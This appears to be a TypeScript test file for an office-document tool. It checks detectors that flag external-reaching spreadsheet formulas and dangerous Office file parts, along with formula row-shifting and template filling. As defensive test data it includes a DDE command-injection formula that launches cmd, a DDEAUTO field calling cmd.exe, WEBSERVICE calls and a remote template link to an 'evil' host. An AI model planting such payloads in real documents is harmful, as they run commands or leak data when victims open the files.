import { describe, expect, test } from 'vitest';
import { shiftFormula, shiftReferences } from '#app/office/document/format/formula-shift.ts';
import { forbiddenContent } from '#app/office/document/format/forbidden-content.ts';
import { outwardFormula } from '#app/office/document/format/outward-formula.ts';
import { fillText, valueOf } from '#app/office/document/tags.ts';

describe('formulas that reach out of their workbook are found', () => {
  test.each([
    'WEBSERVICE("http://x/"&A1)',
    '_xlfn.WEBSERVICE("http://x")',
    'hyperlink("http://x","点")',
    "cmd|'/c calc'!A0",
    '[1]Sheet1!A1',
    "'C:\\x\\[b.xlsx]S'!A1",
    'RTD("a","","b")',
    'CALL("k","x","J")',
  ])('%s', (formula) => {
    expect(outwardFormula(formula)).not.toBeNull();
  });

  test.each([
    'SUM(D5:D9)',
    'IF(A1="[1]x!","是|否","WEBSERVICE(")',
    "'表 1'!A1*2",
    'COUNTIF(A:A,"张")',
    'Table1[成绩]',
  ])('%s stays', (formula) => {
    expect(outwardFormula(formula)).toBeNull();
  });
});

describe('forbidden content of an Office file', () => {
  const word = (xml: string) => forbiddenContent(new Map([['word/document.xml', xml]]));

  test.each([
    ['word/vbaProject.bin', '宏'],
    ['word/embeddings/oleObject1.bin', 'OLE'],
    ['word/activeX/activeX1.xml', '控件'],
    ['xl/externalLinks/externalLink1.xml', '其他工作簿'],
    ['xl/macrosheets/sheet1.xml', '宏'],
    ['xl/connections.xml', '数据源'],
  ])('part %s', (name, told) => {
    expect(forbiddenContent(new Map([[name, '']]))).toContain(told);
  });

  test('a DDE field cut into runs is put together', () => {
    const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
    const field = (inner: string) =>
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${inner}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
    expect(word(field(run(' DD') + run('EAUTO c:\\windows\\cmd.exe')))).toContain('DDEAUTO');
    expect(word(field(run('QUOTE ') + field(run('INCLUDETEXT "x"'))))).not.toBeNull();
    expect(word('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>')).toContain(
      'INCLUDEPICTURE',
    );
    expect(word(field(run(' PAGE ')) + field(run('NUMPAGES \\* MERGEFORMAT')))).toBeNull();
  });

  test('any relation to the outside, also one that only looks like a path', () => {
    const rels = (attributes: string) =>
      forbiddenContent(
        new Map([
          [
            'word/_rels/settings.xml.rels',
            `<Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
          ],
        ]),
      );
    expect(rels('Target="http://evil/t.dotm" TargetMode="External"')).toContain('evil');
    expect(rels('Target="\\\\evil\\t.dotm"')).not.toBeNull();
    expect(rels('Target="&#x68;ttp://evil/"')).not.toBeNull();
    expect(rels('Target="media/image1.png"')).toBeNull();
  });

  test('entity declarations', () => {
    expect(word('<!DOCTYPE x [<!ENTITY a "b">]><w:document/>')).toContain('实体');
  });
});

describe('rows that are put in move what stands below', () => {
  test.each([
    ['SUM(D5:D5)', 'SUM(D5:D8)'],
    ['SUM(D2:D4)', 'SUM(D2:D4)'],
    ['D6+$E$7', 'D9+$E$10'],
    ['D5*2', 'D5*2'],
    ['"A6"&A6', '"A6"&A9'],
    ["'表 2'!A6", "'表 2'!A6"],
    ['LOG10(B6)', 'LOG10(B9)'],
  ])('%s → %s after three copies of row 5', (before, after) => {
    expect(shiftFormula(before, 5, 3)).toBe(after);
  });

  test('a print area grows with its rows', () => {
    expect(shiftReferences('A1:F20', 5, 3)).toBe('A1:F23');
  });
});

describe('filling looks names up and does nothing else', () => {
  test('inherited names have no value', () => {
    expect(valueOf({}, 'constructor')).toBe('');
    expect(fillText('{__proto__}{toString}甲', {})).toBe('甲');
  });

  test('a value with braces is not filled again', () => {
    expect(fillText('{甲}{乙}', { 甲: '{乙}', 乙: '1' })).toBe('{乙}1');
  });
});
